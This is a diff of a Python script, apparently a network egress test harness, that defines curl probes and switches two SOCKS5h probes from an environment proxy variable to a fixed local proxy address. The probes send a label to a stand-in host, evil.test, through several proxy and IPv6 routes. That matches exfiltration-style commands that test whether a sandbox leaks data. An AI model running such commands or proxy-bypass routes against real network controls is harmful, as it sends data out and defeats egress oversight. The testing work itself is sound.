@@ -43,7 +43,7 @@ probes = {
     "plain-x": f"{c} -x $HTTP_PROXY 'http://evil.test:{h}/?d={label}'",
     "connect": f"{c} --cacert test-ca.pem 'https://evil.test:{s}/?d={label}'",
     "connect-p": f"{c} -p -x $HTTP_PROXY 'http://evil.test:{h}/?d={label}'",
-    "socks5h": f"{c} -x $ALL_PROXY 'http://evil.test:{h}/?d={label}'",
+    "socks5h": f"{c} -x socks5h://127.0.0.1:3128 'http://evil.test:{h}/?d={label}'",
     "socks5-ip": f"{c} -x socks5://127.0.0.1:3128 'http://evil.test:{h}/?d={label}'",
     "socks4": f"{c} -x socks4a://127.0.0.1:3128 'http://evil.test:{h}/?d={label}'",
     "v6": f"{c} -6 'http://evil.test:{h}/?d={label}'",
@@ -176,7 +176,7 @@ except OSError as e:
 c = "curl -s -m5 -o /dev/null -w '%{http_code}'"
 emit("curl-fwd", **sh(f"{c} http://{name}/"))
 emit("curl-connect", **sh(f"{c} -p -x $HTTP_PROXY https://{name}/"))
-emit("curl-socks5h", **sh(f"{c} -x $ALL_PROXY http://{name}/"))
+emit("curl-socks5h", **sh(f"{c} -x socks5h://127.0.0.1:3128 http://{name}/"))
 emit("curl-socks5", **sh(f"{c} -x socks5://127.0.0.1:3128 http://{name}/"))
 emit("curl-noproxy", **sh(f"{c} --noproxy '*' http://{name}/"))
 emit("udp-resolver", **udp("127.0.0.53", name))
